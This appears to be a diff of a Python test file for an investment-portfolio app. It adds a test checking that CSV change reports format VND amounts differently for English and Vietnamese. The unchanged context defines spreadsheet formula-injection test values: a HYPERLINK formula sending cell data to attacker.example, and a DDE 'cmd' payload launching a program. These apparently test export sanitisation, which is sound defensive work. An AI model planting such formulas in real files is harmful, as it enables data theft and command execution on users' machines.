@@ -10,7 +10,7 @@ from sqlalchemy import update
 from cuakhau.models.enums import Role
 from cuakhau.models.investment import Investor
 from tests.conftest import Database, People
-from tests.investment.test_portfolio import API, INVESTORS, PROJECTS, upload
+from tests.investment.test_portfolio import AMENDMENTS, API, INVESTORS, PROJECTS, upload, workbook
 
 FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
 NAMES = {"P-1": FORMULA, "P-2": "+cmd|' /C calc'!A0"}
@@ -88,3 +88,16 @@ def test_an_exported_csv_imports_back_to_the_same_names(
     sheet = load_workbook(io.BytesIO(_export(client, people)))["investors"]
     names = {row[0]: row[1] for row in sheet.iter_rows(min_row=2, values_only=True)}
     assert names == INVESTOR_NAMES
+
+
+def test_an_english_export_writes_amounts_the_english_way(
+    client: TestClient, people: People
+) -> None:
+    content = workbook(investors=INVESTORS, projects=PROJECTS, amendments=AMENDMENTS)
+    assert upload(client, people, "portfolio.xlsx", content).status_code == 200
+    url = f"{API}/reports/change?as_of=2022-12-31&since=2021-01-01&format=csv"
+    english = client.get(url, headers={**people[Role.board], "Accept-Language": "en"})
+    assert english.status_code == 200, english.text
+    assert "150,000,000,000 VND" in english.content.decode("utf-8-sig")
+    vietnamese = client.get(url, headers={**people[Role.board], "Accept-Language": "vi"})
+    assert "150.000.000.000 VND" in vietnamese.content.decode("utf-8-sig")
